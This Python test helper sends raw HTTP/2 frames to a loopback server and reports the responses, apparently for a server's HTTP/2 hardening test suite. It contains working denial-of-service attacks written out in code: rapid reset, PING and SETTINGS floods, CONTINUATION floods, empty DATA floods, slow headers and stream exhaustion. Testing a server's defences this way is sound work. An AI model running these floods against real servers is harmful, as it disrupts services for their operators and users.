#!/usr/bin/env python3
"""Raw HTTP/2 frames against a server on loopback, for Http2AttackTest.

Usage: h2_attack.py PORT ATTACK [N] [SIZE]

Speaks h2c by prior knowledge with hyperframe and hpack (Debian's python3-h2), sends what the
attack needs without the state checks a real client library would apply, reads what the server
answers, and prints one JSON line: the GOAWAY (error code, last stream id, debug text), the reset
streams and their error codes, each answered stream's status and body, whether the server closed
the connection, and how long things took. Every wait is bounded.
"""
import json
import socket
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Peer:
    def __init__(self, port, rcvbuf=None):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(10)
        self.sock.connect(("127.0.0.1", port))
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.buffer = b""
        self.goaway = None
        self.goaway_at = None
        self.resets = {}
        self.responses = {}
        self.bodies = {}
        self.ended = set()
        self.closed = False
        self.settings_seen = False
        self.started = time.monotonic()
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def block(self, path, method="GET", extra=()):
        fields = [(":method", method), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", path)]
        return self.encoder.encode(fields + list(extra))

    def headers(self, stream, path, method="GET", end_stream=True, extra=()):
        """A request's HEADERS frame, with CONTINUATION frames if the block is over 16 KiB."""
        block = self.block(path, method, extra)
        limit = 16384
        frame = HeadersFrame(stream)
        frame.data = block[:limit]
        if end_stream:
            frame.flags.add("END_STREAM")
        frames = [frame]
        for start in range(limit, len(block), limit):
            continuation = ContinuationFrame(stream)
            continuation.data = block[start : start + limit]
            frames.append(continuation)
        frames[-1].flags.add("END_HEADERS")
        return b"".join(f.serialize() for f in frames)

    def read(self, until, timeout):
        """Reads until until(self) holds, the server closes, or timeout seconds pass."""
        deadline = time.monotonic() + timeout
        while not until(self) and not self.closed:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                return False
            self.sock.settimeout(remaining)
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                return False
            except OSError:
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buffer += chunk
            self.parse()
        return until(self)

    def pump(self):
        """Reads whatever has arrived, without waiting: a server that answers an attack mid-way
        and closes would otherwise reset the connection before its GOAWAY is read."""
        self.sock.setblocking(False)
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    self.closed = True
                    break
                self.buffer += chunk
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
        finally:
            self.sock.setblocking(True)
        self.parse()

    def parse(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
            self.buffer = self.buffer[9 + length :]
            self.handle(frame)

    def handle(self, frame):
        if isinstance(frame, SettingsFrame):
            if "ACK" not in frame.flags:
                self.settings_seen = True
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, GoAwayFrame):
            if self.goaway is None:
                self.goaway_at = time.monotonic()
            self.goaway = {
                "error": frame.error_code,
                "last_stream": frame.last_stream_id,
                "debug": bytes(frame.additional_data).decode("utf-8", "replace"),
            }
        elif isinstance(frame, RstStreamFrame):
            self.resets[str(frame.stream_id)] = frame.error_code
        elif isinstance(frame, HeadersFrame):
            fields = self.decoder.decode(bytes(frame.data))
            for name, value in fields:
                if name == ":status":
                    self.responses[str(frame.stream_id)] = int(value)
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
        elif isinstance(frame, DataFrame):
            sid = str(frame.stream_id)
            self.bodies[sid] = self.bodies.get(sid, "") + bytes(frame.data).decode("utf-8", "replace")
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)

    def handshake(self):
        if not self.read(lambda p: p.settings_seen, 5):
            raise SystemExit(json.dumps({"error": "no SETTINGS from the server"}))

    def report(self, **extra):
        # After an attack, wait (bounded) for the server to close, so "closed" is its decision.
        self.read(lambda p: False, extra.pop("linger", 0))
        result = {
            "goaway": self.goaway,
            "resets": self.resets,
            "responses": self.responses,
            "bodies": self.bodies,
            "closed": self.closed,
        }
        if self.goaway_at is not None:
            result["goaway_after_ms"] = int((self.goaway_at - self.started) * 1000)
        result.update(extra)
        print(json.dumps(result, sort_keys=True))
        self.sock.close()


def get(port, path="/hello"):
    peer = Peer(port)
    peer.handshake()
    peer.send(peer.headers(1, path))
    peer.read(lambda p: 1 in p.ended, 5)
    peer.report()


def rapid_reset(port, count):
    peer = Peer(port)
    peer.handshake()
    sent = 0
    for batch in range(0, count, 50):
        data = b""
        for i in range(batch, min(batch + 50, count)):
            stream = 1 + 2 * i
            data += peer.headers(stream, "/hello", end_stream=False)
            data += RstStreamFrame(stream, error_code=CANCEL).serialize()
        if not peer.send(data):
            break
        sent = min(batch + 50, count)
        peer.pump()
        if peer.goaway is not None or peer.closed:
            break
    peer.read(lambda p: p.goaway is not None, 10)
    peer.report(sent=sent, linger=5)


def control_flood(port, kind, count):
    # A tiny receive buffer, and no reading while sending: the answers pile up in the server.
    peer = Peer(port, rcvbuf=4096)
    peer.handshake()
    if kind == "ping":
        frame = PingFrame(0, opaque_data=b"belfry!!").serialize()
    else:
        frame = SettingsFrame(0).serialize()
    sent = 0
    chunk = 10000
    while sent < count and peer.send(frame * chunk):
        sent += chunk
    peer.read(lambda p: False, 20)
    peer.report(sent=sent)


def empty_data(port, count):
    peer = Peer(port)
    peer.handshake()
    peer.send(peer.headers(1, "/echo", method="POST", end_stream=False))
    peer.send(DataFrame(1, data=b"").serialize() * count)
    peer.read(lambda p: p.goaway is not None, 10)
    peer.report(linger=5)


def continuation_flood(port, count, size):
    peer = Peer(port)
    peer.handshake()
    first = HeadersFrame(1)
    first.data = peer.block("/hello")
    first.flags.add("END_STREAM")  # no END_HEADERS: the block goes on
    data = first.serialize()
    sent = 0
    for _ in range(count):
        continuation = ContinuationFrame(1)
        continuation.data = b"\x40\x01a\x01b" * (size // 5)  # literal header fields, never ended
        data += continuation.serialize()
        if len(data) > 1 << 16:
            if not peer.send(data):
                break
            data = b""
            peer.pump()
            if peer.goaway is not None or peer.closed:
                break
        sent += 1
    if data:
        peer.send(data)
    peer.read(lambda p: p.goaway is not None, 10)
    peer.report(sent=sent, linger=5)


def slow_headers(port, wait):
    peer = Peer(port)
    peer.handshake()
    first = HeadersFrame(1)
    first.data = peer.block("/hello")
    first.flags.add("END_STREAM")  # no END_HEADERS, and no CONTINUATION ever
    peer.send(first.serialize())
    peer.read(lambda p: False, wait)
    peer.report()


def idle(port, wait):
    peer = Peer(port)
    peer.handshake()
    peer.send(peer.headers(1, "/hello"))
    peer.read(lambda p: 1 in p.ended, 5)
    answered = time.monotonic()
    peer.read(lambda p: False, wait)
    closed_after = int((time.monotonic() - answered) * 1000)
    peer.report(idle_ms=closed_after)


def too_many_streams(port, count, allowed):
    peer = Peer(port)
    peer.handshake()
    # Our SETTINGS ACK went out before these, so the server's limit applies to them.
    data = b""
    for i in range(count):
        data += peer.headers(1 + 2 * i, "/echo", method="POST", end_stream=False)
    peer.send(data)
    refused = count - allowed
    peer.read(lambda p: len(p.resets) >= refused, 5)
    open_streams = [1 + 2 * i for i in range(count) if str(1 + 2 * i) not in peer.resets]
    data = b""
    for stream in open_streams:
        frame = DataFrame(stream, data=b"x")
        frame.flags.add("END_STREAM")
        data += frame.serialize()
    peer.send(data)
    peer.read(lambda p: all(s in p.ended for s in open_streams), 5)
    peer.report()


def big_header(port, size):
    peer = Peer(port)
    peer.handshake()
    peer.send(peer.headers(1, "/hello", extra=[("x-big", "a" * size)]))
    peer.read(lambda p: 1 in p.ended or "1" in p.resets or p.goaway is not None, 5)
    if not peer.closed and peer.goaway is None:
        peer.send(peer.headers(3, "/after"))
        peer.read(lambda p: 3 in p.ended, 5)
    peer.report(linger=1 if peer.goaway is not None else 0)


def main():
    port = int(sys.argv[1])
    attack = sys.argv[2]
    args = [int(a) for a in sys.argv[3:]]
    if attack == "get":
        get(port)
    elif attack == "rapid_reset":
        rapid_reset(port, *args)
    elif attack in ("ping_flood", "settings_flood"):
        control_flood(port, attack.split("_")[0], *args)
    elif attack == "empty_data":
        empty_data(port, *args)
    elif attack == "continuation_flood":
        continuation_flood(port, *args)
    elif attack == "slow_headers":
        slow_headers(port, *args)
    elif attack == "idle":
        idle(port, *args)
    elif attack == "too_many_streams":
        too_many_streams(port, *args)
    elif attack == "big_header":
        big_header(port, *args)
    else:
        raise SystemExit("unknown attack " + attack)


if __name__ == "__main__":
    main()
